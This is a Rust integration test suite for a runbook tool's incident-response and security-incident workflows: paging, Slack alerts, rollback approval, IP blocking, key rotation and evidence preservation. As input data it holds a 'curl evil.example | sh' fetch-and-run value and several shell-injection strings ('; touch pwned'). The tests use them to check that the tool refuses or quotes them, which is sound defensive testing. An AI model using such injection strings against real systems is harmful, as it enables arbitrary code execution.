//! `runbooks/incident-response.yaml` and `runbooks/security-incident.yaml`
//! end to end, through the `steward` binary, against real servers on
//! loopback: the application's endpoints, a Slack receiver, a PagerDuty
//! receiver, a block hook, an SMTP receiver, and this machine's PostgreSQL
//! (a scratch database with a query running in it).

use crate::support::net;
use crate::support::pg;

use std::collections::BTreeSet;
use std::os::unix::fs::PermissionsExt;
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use crate::support::{Outcome, Project, Spawned, me, wait_for};
use net::http::{Reply, Request, Server};
use net::smtp::SmtpServer;
use pg::ScratchDb;
use serde_json::{Value, json};
use sha2::Digest;

const LIMIT: Duration = Duration::from_secs(60);
const ROUTING_KEY: &str = "pd-routing-Key-7731";
const BLOCK_TOKEN: &str = "blk-Token-5530";
/// A password in the database URL: the local server trusts the login and
/// ignores it; it must never be shown.
const DB_PASSWORD: &str = "db-Pw-0917";

fn project() -> Project {
    let p = Project::new();
    p.copy_from_repo("runbooks");
    p.copy_from_repo("steps");
    p
}

/// Slack and PagerDuty receivers. PagerDuty answers as the Events API does,
/// echoing the dedup key.
struct Receivers {
    slack: Server,
    pagerduty: Server,
}

impl Receivers {
    fn start() -> Self {
        Receivers {
            slack: Server::start(|_, _| Reply::text(200, "ok")),
            pagerduty: Server::start(|req: &Request, _| {
                let key = req.json()["dedup_key"].clone();
                Reply::json(
                    202,
                    json!({"status": "success", "message": "Event processed", "dedup_key": key}),
                )
            }),
        }
    }

    /// The `text` of every Slack message, in order.
    fn slack_texts(&self) -> Vec<String> {
        self.slack
            .requests()
            .iter()
            .map(|r| r.json()["text"].as_str().unwrap_or_default().to_owned())
            .collect()
    }

    fn pages(&self) -> Vec<Value> {
        self.pagerduty
            .requests()
            .iter()
            .map(Request::json)
            .collect()
    }
}

/// The secrets and the PagerDuty endpoint of an incident-response run.
fn incident_env(r: &Receivers, database_url: &str) -> Vec<(String, String)> {
    vec![
        ("SLACK_WEBHOOK_URL".into(), r.slack.url("/services/T0/B0/x")),
        ("PAGERDUTY_ROUTING_KEY".into(), ROUTING_KEY.into()),
        ("DATABASE_URL".into(), database_url.into()),
    ]
}

fn run_incident(p: &Project, r: &Receivers, database_url: &str, args: &[&str]) -> Outcome {
    let mut all = vec!["--output", "json", "-i", "title=API returning 500 errors"];
    let pd = format!("pagerduty_url={}", r.pagerduty.url("/v2/enqueue"));
    all.extend_from_slice(&["-i", &pd]);
    all.extend_from_slice(args);
    let env = incident_env(r, database_url);
    p.run_with("incident-response", &all, |t| t.envs(env).timeout(LIMIT))
}

/// `steward run RUNBOOK ARGS…` in the background with these variables.
fn spawn_run(p: &Project, runbook: &str, args: &[&str], env: &[(String, String)]) -> Spawned {
    p.test()
        .args(["run", runbook])
        .args(args)
        .envs(env.iter().map(|(k, v)| (k, v)))
        .spawn()
}

/// The approvals a waiting run asks for now (step ids).
fn pending_approvals(p: &Project, run: &str) -> BTreeSet<String> {
    let out = p.steward(&["show", run, "--output", "json"]);
    let show: Value = serde_json::from_str(&out.stdout).unwrap_or(Value::Null);
    show["approvals"]
        .as_array()
        .map(|a| {
            a.iter()
                .filter(|x| x["decision"].is_null())
                .map(|x| x["step"].as_str().unwrap_or_default().to_owned())
                .collect()
        })
        .unwrap_or_default()
}

/// Waits until the only run of the project waits for all of `steps`.
fn wait_for_approvals(p: &Project, steps: &[&str]) -> String {
    let mut id = String::new();
    wait_for("the run to wait for its approvals", LIMIT, || {
        let Some(first) = p.runs_with_status("waiting").into_iter().next() else {
            return false;
        };
        id = first;
        let pending = pending_approvals(p, &id);
        steps.iter().all(|s| pending.contains(*s))
    });
    id
}

fn report(out: &Outcome) -> Value {
    serde_json::from_str(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "{e}\n--- stdout\n{}\n--- stderr\n{}",
            out.stdout, out.stderr
        )
    })
}

/// The timeline's events, in order.
fn events(outputs: &Value) -> Vec<String> {
    outputs["timeline"]
        .as_array()
        .expect("a timeline")
        .iter()
        .map(|e| {
            assert!(e["time"].is_string(), "every entry has a time: {e}");
            e["event"].as_str().unwrap().to_owned()
        })
        .collect()
}

/// The application: one endpoint down (503, `critical`), one healthy, and a
/// deploy list.
fn app() -> Server {
    Server::start(|req: &Request, _| match req.path() {
        "/api/health" => Reply::json(503, json!({"status": "critical", "uptime": 12})),
        "/" => Reply::json(200, json!({"status": "healthy"})),
        "/deploys" => Reply::json(
            200,
            json!([{"version": "1.4.2", "at": "2025-01-02T10:00:00Z"}, {"version": "1.4.1", "at": "2025-01-01T09:00:00Z"}]),
        ),
        _ => Reply::text(404, "no such page"),
    })
}

/// A query that runs in `db` until the guard is dropped.
struct BusyQuery(Child);

impl BusyQuery {
    fn start(db: &ScratchDb) -> Self {
        let child = Command::new("psql")
            .args(["-X", "-q", "-d", &db.url, "-c"])
            .arg("SELECT pg_sleep(120) /* incident-busy */")
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("start psql");
        let busy = BusyQuery(child);
        wait_for("the busy query to run", LIMIT, || {
            db.sql(
                "SELECT count(*) FROM pg_stat_activity WHERE state = 'active' \
                 AND query LIKE '%incident-busy */' AND pid <> pg_backend_pid()",
            ) == "1"
        });
        busy
    }
}

impl Drop for BusyQuery {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// A git checkout with two commits.
fn repo(p: &Project) -> std::path::PathBuf {
    let dir = p.file("app-src");
    std::fs::create_dir_all(&dir).unwrap();
    let git = |args: &[&str]| {
        let ok = Command::new("git")
            .args([
                "-c",
                "user.name=Dev One",
                "-c",
                "user.email=dev@example.com",
            ])
            .args(args)
            .current_dir(&dir)
            .output()
            .unwrap();
        assert!(ok.status.success(), "git {args:?}: {ok:?}");
    };
    git(&["init", "-q"]);
    git(&["commit", "-q", "--allow-empty", "-m", "release 1.4.1"]);
    git(&[
        "commit",
        "-q",
        "--allow-empty",
        "-m",
        "release 1.4.2: new checkout",
    ]);
    dir
}

#[test]
fn a_p0_pages_at_once_and_the_timeline_holds_the_diagnostics() {
    let p = project();
    let r = Receivers::start();
    let app = app();
    let db = ScratchDb::new();
    let _busy = BusyQuery::start(&db);
    p.write(
        "logs/app.log",
        "2025-01-02 10:00:01 INFO started\n\
         2025-01-02 10:00:02 ERROR db timeout on /checkout\n\
         2025-01-02 10:00:03 INFO request ok\n\
         2025-01-02 10:00:04 error: payment provider 502\n",
    );
    let src = repo(&p);
    let health = format!(
        "health_urls={}, {},http://127.0.0.1:{}/health",
        app.url("/api/health"),
        app.url("/"),
        net::closed_port()
    );
    let url = db
        .url
        .replacen("://postgres@", &format!("://postgres:{DB_PASSWORD}@"), 1);
    let out = run_incident(
        &p,
        &r,
        &url,
        &[
            "-i",
            "severity=P0",
            "-i",
            "impact=Nobody can check out",
            "-i",
            &health,
            "-i",
            &format!("deploys_url={}", app.url("/deploys")),
            "-i",
            &format!("repo_path={}", src.display()),
            "-i",
            "log_path=logs/app.log",
        ],
    );
    out.expect_code(0);
    let report = report(&out);
    let outputs = &report["outputs"];
    let id = outputs["incident_id"].as_str().unwrap().to_owned();
    let run_id = report["run_id"].as_str().unwrap();
    let date = &report["started_at"].as_str().unwrap()[..10];
    assert_eq!(
        id,
        format!(
            "INC-{}-{}",
            date.replace('-', ""),
            &run_id[run_id.len() - 8..]
        )
    );
    assert_eq!(outputs["paged"], true);

    // Paged at once: one trigger, keyed by the incident id.
    let pages = r.pages();
    assert_eq!(pages.len(), 1, "{pages:#?}");
    let page = &pages[0];
    assert_eq!(page["routing_key"], ROUTING_KEY);
    assert_eq!(page["event_action"], "trigger");
    assert_eq!(page["dedup_key"], id.as_str());
    assert_eq!(page["payload"]["severity"], "critical");
    assert_eq!(
        page["payload"]["summary"],
        format!("{id} (P0): API returning 500 errors").as_str()
    );
    assert_eq!(
        page["payload"]["custom_details"]["impact"],
        "Nobody can check out"
    );
    assert_eq!(page["payload"]["component"], "production");

    // The alert follows the communication template, line by line.
    let texts = r.slack_texts();
    let start = report["started_at"].as_str().unwrap()[..16].replace('T', " ");
    assert_eq!(
        texts[0],
        format!(
            "🚨 INCIDENT ALERT - P0\n\n\
             Incident ID: {id}\n\
             Start Time: {start} UTC\n\
             Status: Investigating\n\n\
             Issue: API returning 500 errors\n\
             Impact: Nobody can check out\n\
             Actions: Paging on-call now. Checking health endpoints, recent deploys, error logs and database activity.\n\n\
             Updates will be provided every 30 minutes."
        )
    );
    let first = r.slack.requests()[0].json();
    assert_eq!(
        first["attachments"][0]["color"], "#d00000",
        "critical is red"
    );

    // The diagnostics: health of each endpoint, deploys, commits, the error
    // lines of the log, and the database's activity with the running query.
    let diagnostics = outputs["diagnostics"].as_str().unwrap();
    for expected in [
        format!("health: {} HTTP 503 critical", app.url("/api/health")),
        format!("health: {} HTTP 200 healthy", app.url("/")),
        "/health unreachable".to_owned(),
        "deploys: [{\"at\":\"2025-01-02T10:00:00Z\",\"version\":\"1.4.2\"}".to_owned(),
        "release 1.4.2: new checkout".to_owned(),
        "errors: 2 lines matching ERROR|FATAL|CRITICAL|Traceback in logs/app.log".to_owned(),
        "  | 2025-01-02 10:00:02 ERROR db timeout on /checkout".to_owned(),
        "  | 2025-01-02 10:00:04 error: payment provider 502".to_owned(),
        "database: 1 connections, 1 active, 0 idle in transaction, 0 waiting on locks".to_owned(),
        "SELECT pg_sleep(120) /* incident-busy */".to_owned(),
    ] {
        assert!(
            diagnostics.contains(&expected),
            "{expected:?} missing from\n{diagnostics}"
        );
    }
    assert!(!diagnostics.contains("INFO request ok"), "{diagnostics}");

    // The timeline: opened, posted, paged, diagnosed.
    let events = events(outputs);
    assert_eq!(
        events[0],
        format!("Incident {id} opened (P0): API returning 500 errors")
    );
    assert_eq!(events[1], "Alert posted in the incident channel");
    assert_eq!(
        events[2],
        format!("Paged on-call through PagerDuty at once (P0), dedup key {id}")
    );
    let diagnosed = &events[3];
    for expected in [
        "Diagnostics: health: ",
        "HTTP 503 critical",
        "unreachable",
        "errors: 2 lines matching",
        "database: 1 connections, 1 active",
    ] {
        assert!(diagnosed.contains(expected), "{expected:?} in {diagnosed}");
    }
    assert!(
        !diagnosed.contains("  |"),
        "excerpts stay out of the timeline"
    );
    assert_eq!(events.len(), 4, "{events:#?}");

    // Updates: the diagnostics, then the timeline at the end.
    assert_eq!(texts.len(), 3, "{texts:#?}");
    assert!(texts[1].starts_with(&format!(
        "🚨 INCIDENT UPDATE - P0\n\nIncident ID: {id}\nStatus: Investigating\n\nhealth: "
    )));
    assert!(texts[1].contains("  | 2025-01-02 10:00:02 ERROR db timeout on /checkout"));
    assert!(texts[2].contains("Timeline (time since the alert):\n• 0s Incident opened (P0)\n• "));
    assert!(texts[2].contains(&format!(
        "Paged on-call through PagerDuty at once (P0), dedup key {id}"
    )));
    assert!(texts[2].ends_with("Next update within 30 minutes."));

    let all = p.everything(&out);
    assert!(!all.contains(ROUTING_KEY), "the routing key leaked");
    assert!(!all.contains(DB_PASSWORD), "the database password leaked");
}

#[test]
fn a_p3_goes_to_slack_only() {
    let p = project();
    let r = Receivers::start();
    // No database for this one: an empty DATABASE_URL skips it.
    let out = run_incident(
        &p,
        &r,
        "",
        &["-i", "severity=P3", "-i", "title=Typo on the pricing page"],
    );
    out.expect_code(0);
    let report = report(&out);
    assert!(r.pages().is_empty(), "a P3 pages nobody: {:#?}", r.pages());
    assert_eq!(report["outputs"]["paged"], false);
    assert_eq!(report["steps"]["page"]["status"], "skipped");
    assert_eq!(report["steps"]["db_activity"]["status"], "skipped");
    let texts = r.slack_texts();
    assert!(
        texts[0].starts_with("⚠️ INCIDENT ALERT - P3\n\nIncident ID: INC-"),
        "{}",
        texts[0]
    );
    assert!(texts[0].contains("\nIssue: Typo on the pricing page\nImpact: Being assessed\nActions: Checking health endpoints"));
    let first = r.slack.requests()[0].json();
    assert_eq!(first["attachments"][0]["color"], "#2eb886", "info is green");
    let events = events(&report["outputs"]);
    assert_eq!(events.len(), 3, "{events:#?}");
    assert_eq!(events[2], "Diagnostics: health: no endpoints given");
}

#[test]
fn a_p1_pages_when_nobody_acknowledges_in_time() {
    let p = project();
    let r = Receivers::start();
    let out = run_incident(&p, &r, "", &["-i", "severity=P1", "-i", "ack_within=300ms"]);
    out.expect_code(0);
    let report = report(&out);
    let id = report["outputs"]["incident_id"].as_str().unwrap();
    let pages = r.pages();
    assert_eq!(pages.len(), 1, "{pages:#?}");
    assert_eq!(pages[0]["dedup_key"], id);
    assert_eq!(report["outputs"]["paged"], true);
    assert!(
        r.slack_texts()[0].contains(
            "Actions: On-call is paged unless the incident is acknowledged within 300ms."
        ),
        "{}",
        r.slack_texts()[0]
    );
    let events = events(&report["outputs"]);
    assert!(
        events.contains(&format!(
            "Not acknowledged (no decision within 300ms): paged on-call through PagerDuty, dedup key {id}"
        )),
        "{events:#?}"
    );
}

#[test]
fn a_p1_acknowledged_from_another_terminal_pages_nobody() {
    let p = project();
    let r = Receivers::start();
    let env = incident_env(&r, "");
    let pd = format!("pagerduty_url={}", r.pagerduty.url("/v2/enqueue"));
    let run = spawn_run(
        &p,
        "incident-response",
        &[
            "--output",
            "json",
            "-i",
            "severity=P1",
            "-i",
            "title=Search is down",
            "-i",
            &pd,
            "-i",
            "ack_within=5m",
        ],
        &env,
    );
    let id = wait_for_approvals(&p, &["acknowledge"]);
    p.steward(&["approve", &id, "acknowledge", "--comment", "on it"])
        .expect_code(0);
    let out = run.wait(LIMIT);
    out.expect_code(0);
    let report = report(&out);
    assert!(r.pages().is_empty(), "{:#?}", r.pages());
    assert_eq!(report["outputs"]["paged"], false);
    assert_eq!(report["steps"]["page_unacknowledged"]["status"], "skipped");
    let events = events(&report["outputs"]);
    assert!(
        events.contains(&format!(
            "Acknowledged by {} (cli): on-call not paged",
            me()
        )),
        "{events:#?}"
    );
}

/// A P2 with a rollback offered, started in the background; the rollback
/// command records its arguments and its environment.
fn offer_rollback(p: &Project, r: &Receivers) -> (Spawned, String) {
    let env = incident_env(r, "");
    let run = spawn_run(
        p,
        "incident-response",
        &[
            "--output",
            "json",
            "-i",
            "severity=P2",
            "-i",
            "title=Checkout slow since 1.4.2",
            "-i",
            "rollback_command=printf '%s|%s|%s\\n' {version} {environment} \"$ROLLBACK_VERSION\" > rolled-back",
            // A version that would run a command if it were not quoted.
            "-i",
            "rollback_version=1.4.1'; touch pwned; '",
            "-i",
            "environment=prod eu",
        ],
        &env,
    );
    let id = wait_for_approvals(p, &["offer_rollback"]);
    (run, id)
}

#[test]
fn an_approved_rollback_runs_the_command_with_quoted_values() {
    let p = project();
    let r = Receivers::start();
    let (run, id) = offer_rollback(&p, &r);
    assert!(!p.exists("rolled-back"), "nothing before the decision");
    let show: Value =
        serde_json::from_str(&p.steward(&["show", &id, "--output", "json"]).stdout).unwrap();
    let message = show["approvals"][0]["message"].as_str().unwrap();
    assert!(
        message.starts_with("Roll back prod eu to 1.4.1'; touch pwned; ' for INC-"),
        "{message}"
    );
    assert!(
        message.contains("Diagnostics: health: no endpoints given"),
        "{message}"
    );
    p.steward(&["approve", &id, "offer_rollback"])
        .expect_code(0);
    let out = run.wait(LIMIT);
    out.expect_code(0);
    let report = report(&out);
    assert_eq!(
        p.read("rolled-back"),
        "1.4.1'; touch pwned; '|prod eu|1.4.1'; touch pwned; '\n"
    );
    assert!(!p.exists("pwned"), "the version was run as a command");
    assert_eq!(report["outputs"]["rolled_back"], true);
    let events = events(&report["outputs"]);
    assert!(
        events.contains(&format!("Rollback approved by {} (cli)", me())),
        "{events:#?}"
    );
    assert!(
        events.contains(&"Rolled back prod eu to 1.4.1'; touch pwned; '".to_owned()),
        "{events:#?}"
    );
    let decided = p
        .audit_events(&id)
        .into_iter()
        .find(|e| e["event"] == "approval_decided" && e["step"] == "offer_rollback")
        .expect("the decision is in the audit trail");
    assert_eq!(decided["approved"], true);
    assert_eq!(decided["via"], "cli");
    let texts = r.slack_texts();
    assert!(
        texts
            .iter()
            .any(|t| t.contains("Status: Monitoring\n\nRolled back prod eu")),
        "{texts:#?}"
    );
}

#[test]
fn a_rejected_rollback_is_not_run_and_the_run_still_succeeds() {
    let p = project();
    let r = Receivers::start();
    let (run, id) = offer_rollback(&p, &r);
    p.steward(&[
        "reject",
        &id,
        "offer_rollback",
        "--comment",
        "the DB migration can't go back",
    ])
    .expect_code(0);
    let out = run.wait(LIMIT);
    out.expect_code(0);
    let report = report(&out);
    assert!(!p.exists("rolled-back"), "the rollback ran");
    assert_eq!(report["steps"]["rollback"]["status"], "skipped");
    assert_eq!(report["outputs"]["rolled_back"], false);
    let reason = format!(
        "Rollback not done: rejected by {}: the DB migration can't go back",
        me()
    );
    assert!(events(&report["outputs"]).contains(&reason));
    assert!(r.slack_texts().iter().any(|t| t.contains(&reason)));
}

// ---------------------------------------------------------------- security

/// A block hook that records each request; 204 when the bearer is right.
fn block_hook() -> Server {
    Server::start(|req: &Request, _| {
        if req.header("authorization") == Some(&format!("Bearer {BLOCK_TOKEN}")) {
            Reply::text(204, "")
        } else {
            Reply::text(401, "bad token")
        }
    })
}

fn security_env(slack: &Server) -> Vec<(String, String)> {
    vec![
        ("SLACK_WEBHOOK_URL".into(), slack.url("/services/T0/B0/sec")),
        ("BLOCK_TOKEN".into(), BLOCK_TOKEN.into()),
        // The relay here takes mail without a login.
        ("SMTP_PASSWORD".into(), String::new()),
    ]
}

fn security_args(smtp: &SmtpServer, hook: &Server) -> Vec<String> {
    [
        "summary=Credential stuffing against /login".to_owned(),
        "security_email=security@example.com".to_owned(),
        "mail_from=Steward <steward@example.com>".to_owned(),
        "smtp_server=127.0.0.1".to_owned(),
        format!("smtp_port={}", smtp.port),
        "smtp_tls=none".to_owned(),
        "ips=203.0.113.7, 198.51.100.0/24,2001:db8::1".to_owned(),
        format!("block_url={}", hook.url("/firewall/block")),
        // A name with a quote and a semicolon: it must stay one argument.
        "keys=stripe-live, it's; touch pwned".to_owned(),
        "rotate_command=printf '%s|%s\\n' {key} \"$KEY_NAME\" >> rotated".to_owned(),
        "evidence_paths=logs/auth.log, logs/nginx".to_owned(),
    ]
    .into_iter()
    .flat_map(|a| ["-i".to_owned(), a])
    .collect()
}

fn write_logs(p: &Project) {
    p.write("logs/auth.log", "Failed login for admin from 203.0.113.7\n");
    p.write("logs/nginx/access.log", "203.0.113.7 POST /login 401\n");
    p.write("logs/nginx/error.log", "rate limit exceeded\n");
}

/// Makes a read-only evidence folder removable again.
fn writable(path: &std::path::Path) {
    let _ = Command::new("chmod")
        .arg("-R")
        .arg("u+w")
        .arg(path)
        .status();
}

#[test]
fn approved_containment_blocks_rotates_preserves_and_mails() {
    let p = project();
    write_logs(&p);
    let slack = Server::start(|_, _| Reply::text(200, "ok"));
    let hook = block_hook();
    let smtp = SmtpServer::start(None);
    let mut args: Vec<String> = vec!["--output".into(), "json".into(), "--yes".into()];
    args.extend(security_args(&smtp, &hook));
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let env = security_env(&slack);
    let out = p.run_with("security-incident", &args, |t| t.envs(env).timeout(LIMIT));
    let report = report(&out);
    let run_id = report["run_id"].as_str().unwrap().to_owned();
    let evidence = p.file(&format!("evidence/{run_id}"));
    let _cleanup = scopeguard(evidence.clone());
    out.expect_code(0);
    let outputs = &report["outputs"];

    // One POST per address, with the bearer token.
    let requests = hook.requests();
    assert_eq!(requests.len(), 3, "{requests:#?}");
    let blocked: BTreeSet<String> = requests
        .iter()
        .map(|r| {
            assert_eq!(r.method, "POST");
            assert_eq!(r.path(), "/firewall/block");
            assert_eq!(
                r.header("authorization"),
                Some(format!("Bearer {BLOCK_TOKEN}").as_str())
            );
            let body = r.json();
            assert_eq!(body["reason"], "Credential stuffing against /login");
            assert_eq!(body["incident"], outputs["incident_id"]);
            body["ip"].as_str().unwrap().to_owned()
        })
        .collect();
    assert_eq!(
        blocked,
        BTreeSet::from([
            "203.0.113.7".into(),
            "198.51.100.0/24".into(),
            "2001:db8::1".into()
        ])
    );
    assert_eq!(
        outputs["blocked"],
        json!(["203.0.113.7", "198.51.100.0/24", "2001:db8::1"])
    );

    // Each key rotated once, its name one argument.
    let mut rotated = p.lines("rotated");
    rotated.sort();
    assert_eq!(
        rotated,
        vec![
            "it's; touch pwned|it's; touch pwned",
            "stripe-live|stripe-live"
        ]
    );
    assert!(!p.exists("pwned"), "a key name was run as a command");
    assert_eq!(
        outputs["rotated"],
        json!(["stripe-live", "it's; touch pwned"])
    );

    // Evidence: the logs copied under their full paths, their sums right,
    // read-only.
    assert_eq!(
        outputs["evidence_dir"],
        format!("evidence/{run_id}").as_str()
    );
    let root = p.path().canonicalize().unwrap();
    let rel = root.strip_prefix("/").unwrap();
    let sums = std::fs::read_to_string(evidence.join("SHA256SUMS")).unwrap();
    let mut expected = Vec::new();
    for log in [
        "logs/auth.log",
        "logs/nginx/access.log",
        "logs/nginx/error.log",
    ] {
        let copy = evidence.join(rel).join(log);
        let bytes = std::fs::read(&copy).unwrap_or_else(|e| panic!("{}: {e}", copy.display()));
        assert_eq!(
            bytes,
            std::fs::read(p.file(log)).unwrap(),
            "{log} copied as is"
        );
        let mode = std::fs::metadata(&copy).unwrap().permissions().mode();
        assert_eq!(mode & 0o277, 0, "{log} is read-only, owner only: {mode:o}");
        let line = format!(
            "{}  ./{}/{log}",
            hex::encode(sha2::Sha256::digest(&bytes)),
            rel.display()
        );
        assert!(sums.contains(&line), "{line} in\n{sums}");
        expected.push(line);
    }
    let manifest = std::fs::read_to_string(evidence.join("MANIFEST")).unwrap();
    assert_eq!(
        manifest,
        format!(
            "logs/auth.log -> ./{0}/logs/auth.log\nlogs/nginx -> ./{0}/logs/nginx\n",
            rel.display()
        )
    );
    let manifest_sum = format!(
        "{}  ./MANIFEST",
        hex::encode(sha2::Sha256::digest(manifest.as_bytes()))
    );
    assert!(sums.contains(&manifest_sum), "{sums}");
    assert_eq!(sums.lines().count(), 4, "{sums}");
    let checksums: Vec<&str> = outputs["checksums"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    assert_eq!(checksums, sums.lines().collect::<Vec<_>>());
    let check = Command::new("sha256sum")
        .args(["--strict", "-c", "SHA256SUMS"])
        .current_dir(&evidence)
        .output()
        .unwrap();
    assert!(check.status.success(), "{check:?}");

    // The security team's mail says all of it.
    let mails = smtp.mails();
    assert_eq!(mails.len(), 1, "{mails:#?}");
    let mail = &mails[0];
    assert_eq!(mail.to, vec!["security@example.com"]);
    assert_eq!(mail.auth, None, "no login with an empty smtp_username");
    let id = outputs["incident_id"].as_str().unwrap();
    assert_eq!(
        mail.header("subject").unwrap(),
        format!("[P0] Security incident {id}: Credential stuffing against /login")
    );
    let body = mail.body();
    for expected in [
        format!("Security incident {id} (P0): Credential stuffing against /login"),
        "Runbook: succeeded".to_owned(),
        "Blocked: 203.0.113.7, 198.51.100.0/24, 2001:db8::1".to_owned(),
        "Rotated: stripe-live, it's; touch pwned".to_owned(),
        format!("Evidence: evidence/{run_id}, read-only, SHA-256 in SHA256SUMS:"),
        format!("  {}", expected[0]),
    ] {
        assert!(body.contains(&expected), "{expected:?} in\n{body}");
    }
    // And the channel: the alert, then the same report.
    let texts: Vec<String> = slack
        .requests()
        .iter()
        .map(|r| r.json()["text"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(texts.len(), 2, "{texts:#?}");
    assert!(texts[0].starts_with(&format!("🚨 SECURITY INCIDENT - P0\n\nIncident ID: {id}\n")));
    assert!(texts[0].contains("Actions: preserving 2 evidence path(s); blocking 3 address(es) and rotating 2 key(s) once approved."));
    assert!(texts[1].contains("Status: Contained\n"));
    assert!(texts[1].contains("Blocked: 203.0.113.7, 198.51.100.0/24, 2001:db8::1"));

    let all = p.everything(&out);
    assert!(!all.contains(BLOCK_TOKEN), "the block token leaked");
    let pre = p
        .audit_events(&run_id)
        .into_iter()
        .filter(|e| e["event"] == "approval_decided")
        .map(|e| {
            (
                e["step"].as_str().unwrap().to_owned(),
                e["via"].as_str().unwrap().to_owned(),
            )
        })
        .collect::<BTreeSet<_>>();
    assert_eq!(
        pre,
        BTreeSet::from([
            ("approve_block".to_owned(), "pre-approved".to_owned()),
            ("approve_rotation".to_owned(), "pre-approved".to_owned())
        ])
    );
}

/// Restores write access to an evidence folder when the test ends, so that
/// the project's temp folder can be removed.
struct Writable(std::path::PathBuf);

fn scopeguard(path: std::path::PathBuf) -> Writable {
    Writable(path)
}

impl Drop for Writable {
    fn drop(&mut self) {
        writable(&self.0);
    }
}

#[test]
fn invalid_addresses_are_refused_before_anything_runs() {
    let p = project();
    let slack = Server::start(|_, _| Reply::text(200, "ok"));
    let hook = block_hook();
    let env = security_env(&slack);
    for bad in [
        "203.0.113.7, 1.2.3.999",
        "203.0.113.7; curl evil.example | sh",
        "10.0.0.1 10.0.0.2",
        "2001:db8:::1",
        "10.0.0.0/33",
        "evil.example.com",
    ] {
        let out = p.run_with(
            "security-incident",
            &[
                "-i",
                "summary=x",
                "-i",
                "security_email=security@example.com",
                "-i",
                &format!("ips={bad}"),
                "-i",
                &format!("block_url={}", hook.url("/block")),
                "--yes",
            ],
            |t| t.envs(env.clone()),
        );
        out.expect_code(2);
        assert!(
            out.stderr
                .contains(&format!("input `ips`: `{bad}` doesn't match the pattern")),
            "{bad}: {}",
            out.stderr
        );
    }
    assert!(p.run_ids().is_empty(), "nothing ran");
    assert!(hook.requests().is_empty());
    assert!(slack.requests().is_empty());
}

#[test]
fn without_approval_nothing_is_blocked_or_rotated() {
    let p = project();
    write_logs(&p);
    let slack = Server::start(|_, _| Reply::text(200, "ok"));
    let hook = block_hook();
    let smtp = SmtpServer::start(None);
    let mut args: Vec<String> = vec!["--output".into(), "json".into()];
    args.extend(security_args(&smtp, &hook));
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let run = spawn_run(&p, "security-incident", &args, &security_env(&slack));
    let id = wait_for_approvals(&p, &["approve_block", "approve_rotation"]);
    let _cleanup = scopeguard(p.file(&format!("evidence/{id}")));
    p.steward(&[
        "reject",
        &id,
        "approve_block",
        "--comment",
        "shared NAT, would block customers",
    ])
    .expect_code(0);
    p.steward(&["reject", &id, "approve_rotation"])
        .expect_code(0);
    let out = run.wait(LIMIT);
    out.expect_code(0);
    let report = report(&out);
    assert!(hook.requests().is_empty(), "{:#?}", hook.requests());
    assert!(!p.exists("rotated"));
    assert_eq!(report["steps"]["block"]["status"], "skipped");
    assert_eq!(report["outputs"]["blocked"], json!([]));
    assert_eq!(report["outputs"]["rotated"], json!([]));
    // Evidence is kept whatever the decisions.
    assert_eq!(report["steps"]["preserve_evidence"]["status"], "succeeded");
    assert!(p.exists(&format!("evidence/{id}/SHA256SUMS")));
    let body = smtp.mails()[0].body();
    let who = me();
    assert!(
        body.contains(&format!(
            "Blocked: nothing, not approved: rejected by {who}: shared NAT, would block customers"
        )),
        "{body}"
    );
    assert!(
        body.contains(&format!(
            "Rotated: nothing, not approved: rejected by {who}"
        )),
        "{body}"
    );
}
